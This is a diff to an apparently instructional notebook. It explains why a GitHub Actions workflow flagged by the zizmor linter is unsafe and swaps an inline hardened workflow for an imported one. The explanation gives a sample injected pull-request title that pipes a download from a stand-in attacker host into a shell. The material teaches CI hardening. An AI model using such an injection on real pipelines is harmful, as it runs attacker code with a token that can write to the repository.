@@ -149,25 +149,14 @@ findings
 """
 The schema is content: each key is known and each value has the right type. zizmor is not. Put its findings together. Anybody with an account may propose a change (`pull_request_target` starts the job with *our* rights), and its title is pasted into a script before the script runs. A title such as `"; curl evil.example | sh; "` becomes part of the program, with a token that may write everything. `@v4` is a label that its owner, or whoever has stolen his account, can move to other code tomorrow. And the checkout leaves its token in the folder (`artipacked`), for whatever runs next.
 
-The mended workflow takes the event without rights, grants what it needs, pins each action by the digest of its commit, and runs three jobs in order.
+The mended workflow takes the event without rights, grants what it needs, pins each action by the digest of its commit, and has three jobs.
 """
 
 # %%
-CHECKOUT = "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2"
-QUIET = "-q --tb=no -p no:cacheprovider"
-job = f"    runs-on: ubuntu-24.04\n    steps:\n      - uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n"
-mended = f"""\
-name: ci
-on: pull_request
-permissions: {{contents: read}}
-concurrency: {{group: ci, cancel-in-progress: true}}
-env: {{PYTEST_DISABLE_PLUGIN_AUTOLOAD: "1", PYTEST_ADDOPTS: "{QUIET}"}}
-jobs:
-"""
-for name, needs in (("model", "[code, data]"), ("code", "[]"), ("data", "[]")):
-    mended += f"  {name}:\n    needs: {needs}\n{job}"
-    mended += f"      - {{name: test the {name}, run: python -m pytest test_{name}.py}}\n"
-clone.lint_workflow(mended)["finding"].tolist()
+from flightdelay.clone import SOUND_WORKFLOW
+
+print(SOUND_WORKFLOW)
+print("findings:", len(clone.lint_workflow(SOUND_WORKFLOW)))
 
 # %% [markdown]
 """
